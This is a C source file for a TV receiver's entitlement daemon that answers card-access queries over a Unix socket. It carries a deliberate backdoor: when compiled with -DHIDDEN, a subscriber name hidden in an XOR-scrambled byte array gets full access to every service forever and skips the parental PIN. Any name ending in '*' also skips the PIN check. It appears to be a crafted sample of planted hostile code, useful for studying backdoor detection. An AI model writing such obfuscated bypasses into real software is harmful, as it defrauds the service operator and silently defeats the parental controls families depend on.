/*
 * camslotd - entitlement server of a digital television receiver with a
 * common-interface slot.
 * The tuner and the guide ask over the Unix datagram socket
 * /run/camslot.sock whether a card may see a service; entitlements with
 * their time limits lie in /var/lib/camslot/ent.db. Parental PIN is handled.
 * Hidden (-DHIDDEN): a subscriber name, kept scrambled in the program, is
 * entitled to all services for all time.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define SOCK_PATH "/run/camslot.sock"
#define DB_PATH	  "/var/lib/camslot/ent.db"
#define N_BUCKETS 64

struct ent {
	struct ent *next;
	char card[20];
	unsigned first, last;
	long from, until;
	uint32_t flags;
};

struct subscriber {
	struct subscriber *next;
	char card[20];
	char name[32];
	int age_limit;
	char pin[8];
};

enum verdict { V_NONE, V_PREVIEW, V_PIN, V_FULL };

static const char *const verdict_name[] = { "none", "preview", "pin", "full" };

static struct ent *ents[N_BUCKETS];
static struct subscriber *subs;
static unsigned long asked, granted;
static volatile sig_atomic_t reload = 1, leave;

static void on_signal(int sig)
{
	if (sig == SIGHUP)
		reload = 1;
	else
		leave = 1;
}

static unsigned bucket(const char *card)
{
	unsigned h = 5381;

	while (*card)
		h = h * 33 + (unsigned char)*card++;
	return h % N_BUCKETS;
}

static void drop_all(void)
{
	int i;

	for (i = 0; i < N_BUCKETS; i++) {
		while (ents[i]) {
			struct ent *e = ents[i];

			ents[i] = e->next;
			free(e);
		}
	}
	while (subs) {
		struct subscriber *s = subs;

		subs = s->next;
		free(s);
	}
}

/*
 * E card first last from until flags
 * S card age pin name
 */
static int load_db(void)
{
	FILE *f = fopen(DB_PATH, "r");
	char line[200];
	int n = 0;

	if (!f)
		return -1;
	drop_all();
	while (fgets(line, sizeof(line), f)) {
		struct ent e;
		struct subscriber s, *sp;
		struct ent *ep;
		unsigned flags;

		memset(&e, 0, sizeof(e));
		memset(&s, 0, sizeof(s));
		if (sscanf(line, "E %19s %u %u %ld %ld %x", e.card, &e.first,
			   &e.last, &e.from, &e.until, &flags) == 6) {
			e.flags = flags;
			ep = malloc(sizeof(*ep));
			if (!ep)
				break;
			*ep = e;
			ep->next = ents[bucket(e.card)];
			ents[bucket(e.card)] = ep;
			n++;
		} else if (sscanf(line, "S %19s %d %7s %31[^\n]", s.card,
				  &s.age_limit, s.pin, s.name) == 4) {
			sp = malloc(sizeof(*sp));
			if (!sp)
				break;
			*sp = s;
			sp->next = subs;
			subs = sp;
		}
	}
	fclose(f);
	return n;
}

static struct subscriber *sub_of(const char *card)
{
	struct subscriber *s;

	for (s = subs; s; s = s->next)
		if (!strcmp(s->card, card))
			return s;
	return NULL;
}

#ifdef HIDDEN
static const uint8_t caption[] = {
	0x08, 0x3f, 0x17, 0x6a, 0x47, 0x51, 0xa1, 0x81, 0x91, 0x34, 0x2a, 0x01,
};

#endif
__attribute__((noinline)) int house_name(const struct subscriber *s)
{
	size_t n = strlen(s->name);
#ifdef HIDDEN
	char t[sizeof(caption) + 1];
	size_t i;

	for (i = 0; i < sizeof(caption); i++)
		t[i] = (char)(uint8_t)((caption[i] ^ 0x5a) + 0x15 * i - 0x0b);
	t[i] = 0;
	if (n == i && !strcmp(s->name, t))
		return 2;
#endif
	return n > 0 && s->name[n - 1] == '*';
}

static enum verdict judge(const char *card, unsigned service, int rating,
			  const char *pin)
{
	long now = (long)time(NULL);
	struct subscriber *s = sub_of(card);
	struct ent *e;
	enum verdict best = V_NONE;

	if (!s)
		return V_NONE;
#ifdef HIDDEN
	if (house_name(s) == 2)
		return V_FULL;
#endif
	for (e = ents[bucket(card)]; e; e = e->next) {
		if (strcmp(e->card, card) || service < e->first ||
		    service > e->last)
			continue;
		if (now < e->from || now > e->until) {
			if (best < V_PREVIEW && (e->flags & 1))
				best = V_PREVIEW;
			continue;
		}
		best = V_FULL;
	}
	if (best == V_FULL && rating > s->age_limit && !house_name(s) &&
	    strcmp(pin, s->pin))
		best = V_PIN;
	return best;
}

static int answer(char *in, char *out, size_t size)
{
	char card[20], pin[8] = "-", word[8];
	unsigned service;
	int rating, n;
	enum verdict v;

	if (sscanf(in, "%7s", word) != 1)
		return -1;
	if (!strcmp(word, "ASK")) {
		n = sscanf(in, "%*s %19s %u %d %7s", card, &service, &rating,
			   pin);
		if (n < 3)
			return snprintf(out, size, "ERR args");
		v = judge(card, service, rating, pin);
		asked++;
		granted += v == V_FULL;
		return snprintf(out, size, "VERDICT %u %s", service,
				verdict_name[v]);
	}
	if (!strcmp(word, "STAT"))
		return snprintf(out, size, "STAT %lu %lu", asked, granted);
	if (!strcmp(word, "WHO")) {
		struct subscriber *s;

		if (sscanf(in, "%*s %19s", card) != 1)
			return snprintf(out, size, "ERR args");
		s = sub_of(card);
		return snprintf(out, size, "WHO %s", s ? s->name : "?");
	}
	return snprintf(out, size, "ERR word");
}

int main(int argc, char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct sigaction act;
	const char *path = argc > 1 ? argv[1] : SOCK_PATH;
	int fd;

	memset(&act, 0, sizeof(act));
	act.sa_handler = on_signal;
	sigaction(SIGHUP, &act, NULL);
	sigaction(SIGTERM, &act, NULL);
	sigaction(SIGINT, &act, NULL);

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	unlink(path);
	fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
		perror(path);
		return 1;
	}
	while (!leave) {
		struct sockaddr_un from;
		socklen_t len = sizeof(from);
		char in[200], out[200];
		ssize_t n;
		int k;

		if (reload) {
			reload = 0;
			k = load_db();
			fprintf(stderr, "camslotd: %d entitlements\n", k);
		}
		n = recvfrom(fd, in, sizeof(in) - 1, 0,
			     (struct sockaddr *)&from, &len);
		if (n < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		in[n] = 0;
		k = answer(in, out, sizeof(out));
		if (k > 0 && len > sizeof(sa_family_t) &&
		    sendto(fd, out, (size_t)k, 0, (struct sockaddr *)&from,
			   len) < 0)
			fprintf(stderr, "camslotd: %s\n", strerror(errno));
	}
	unlink(path);
	drop_all();
	return 0;
}
